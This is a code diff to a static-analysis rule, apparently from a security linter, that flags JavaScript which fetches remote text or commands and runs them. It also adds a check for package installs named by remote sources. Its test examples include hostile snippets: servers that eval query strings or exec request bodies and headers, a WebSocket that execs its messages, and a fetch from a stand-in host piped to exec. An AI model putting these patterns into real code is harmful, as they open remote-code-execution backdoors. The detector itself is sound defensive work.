@@ -1,5 +1,6 @@
 import { codeArguments, defineRule, step, stepsOf } from '../src/define.js';
-import type { Call, FileContext } from '../src/types.js';
+import type { Call, FileContext, Label } from '../src/types.js';
+import { isServed } from '../src/vocabulary/apis.js';
 
 export default defineRule({
   meta: {
@@ -10,8 +11,13 @@ export default defineRule({
       code: 'Fetches text with {source} and runs it with {sink}',
       template: 'Puts what it fetched with {source} into code it runs with {sink}',
       command: 'Fetches a command with {source} and hands it to {sink}',
+      relayed: 'Hands {sink} a command that what another file fetched with {source} is part of',
+      program: 'Starts a program that what it fetched with {source} names, with {sink}',
+      packages: 'Installs packages that {source} names while it is being installed',
+      served: 'Runs code out of {source} with {sink}',
+      ordered: 'Hands {source} as a command to {sink}',
     },
-    bits: { code: 13.5, template: 5, command: 11 },
+    bits: { code: 13.5, template: 5, command: 12, relayed: 7, program: 5, packages: 9, served: 11.5, ordered: 11.5 },
   },
   examples: {
     flags: [
@@ -24,11 +30,35 @@ export default defineRule({
         code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(r => new Function('require', r.data)(require));`,
       },
       {
+        title: 'a server evaluates what it is asked',
+        code: `const app = require('express')();\napp.get('/', (req, res) => res.send(String(eval(req.query.q))));`,
+      },
+      {
+        title: 'a server runs the body of a request',
+        code: `const http = require('http'), { exec } = require('child_process');\nhttp.createServer((req, res) => {\n  let body = '';\n  req.on('data', chunk => { body += chunk; });\n  req.on('end', () => exec(body));\n}).listen(8124);`,
+      },
+      {
+        title: 'a handler that others will mount runs a header',
+        code: `module.exports = (req, res, next) => {\n  if (req.headers['x-order']) require('child_process').exec(req.headers['x-order']);\n  next();\n};`,
+      },
+      {
+        title: 'a socket gives orders',
+        code: `const { exec } = require('child_process');\nconst socket = new WebSocket('wss://stage.invalid');\nsocket.onmessage = event => exec(event.data);`,
+      },
+      {
         title: 'a command is fetched',
         code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
       },
     ],
     passes: [
+      {
+        title: 'a server opens the file that it is asked for in an editor',
+        code: `const http = require('http'), { spawn } = require('child_process');\nhttp.createServer((req, res) => {\n  spawn('code', ['-g', req.headers['x-file']]);\n}).listen(3000);`,
+      },
+      {
+        title: 'a program runs what its parent process sends',
+        code: `process.on('message', ({ code }) => process.send(new Function(code)()));`,
+      },
       {
         title: 'a response is parsed',
         code: `fetch('https://api.invalid').then(r => r.json()).then(data => console.log(data));`,
@@ -44,14 +74,17 @@ export default defineRule({
     ],
   },
   file(context) {
+    if (context.moment === 'install') installs(context);
     for (const call of context.calls('execution', 'process')) {
       const isCommand = context.calls('process').includes(call);
       for (const arg of isCommand ? commandArguments(context, call) : codeArguments(context, call)) {
         if (call.name === 'import' || /^document\./.test(call.name)) continue;
         const label = context.labelsOf(arg).find(({ kind }) => kind === 'remote');
         if (!label) continue;
+        const messageId = messageOf(context, call, arg, label, isCommand);
+        if (messageId === undefined) continue;
         context.report({
-          messageId: isCommand ? 'command' : isTemplate(context.textsOf(arg)) ? 'template' : 'code',
+          messageId,
           data: { source: label.detail, sink: call.name },
           chain: [...stepsOf(label), step('sink', `runs it with ${call.name}`, context.file, call.node)],
         });
@@ -59,6 +92,48 @@ export default defineRule({
     }
   },
 });
+
+/** `npm install` with names that another machine gave, during an installation. */
+function installs(context: FileContext): void {
+  for (const call of context.calls('process')) {
+    const [program, words] = call.args;
+    const verb = context
+      .commandsOf(program as Call['node'], words)
+      .some(
+        ({ program: manager, words: said }) =>
+          /^(?:npm|pnpm|yarn|bun|pip3?)$/.test(manager) && /^(?:i|install|add|global)$/.test(said[0] ?? ''),
+      );
+    const label = verb
+      ? [program, words].flatMap(arg => (arg ? context.labelsOf(arg) : [])).find(({ kind }) => kind === 'remote')
+      : undefined;
+    if (!label) continue;
+    context.report({
+      messageId: 'packages',
+      data: { source: label.detail },
+      chain: [...stepsOf(label), step('sink', `installs them with ${call.name}`, context.file, call.node)],
+    });
+  }
+}
+
+function messageOf(
+  { file, textsOf }: FileContext,
+  { name, args }: Call,
+  arg: Call['node'],
+  { detail, origin }: Label,
+  isCommand: boolean,
+): string | undefined {
+  const template = isTemplate(textsOf(arg));
+  if (!isCommand) return template ? 'template' : isServed(detail) ? 'served' : 'code';
+  // `spawn` without a shell starts one program: an editor, a binary of the version that was asked for.
+  const line =
+    !/(?:\.|^)(?:spawn(?:Sync)?|execFile(?:Sync)?|fork|cross-spawn|nano-spawn|execa|execaSync|x)$/.test(name) ||
+    arg !== args[0];
+  // Words out of a request for a program that is fixed: `cmd /c code <file>` opens an editor.
+  if (isServed(detail) && arg !== args[0]) return undefined;
+  // What an API client of one file answers reaches many parameters of others, few of them for sure.
+  if (line) return origin.file !== file ? 'relayed' : isServed(detail) ? 'ordered' : 'command';
+  return isServed(detail) ? undefined : 'program';
+}
 
 /**
  * The arguments that say what runs: the line or program, unless its beginning is fixed (`npm install <answer>` runs
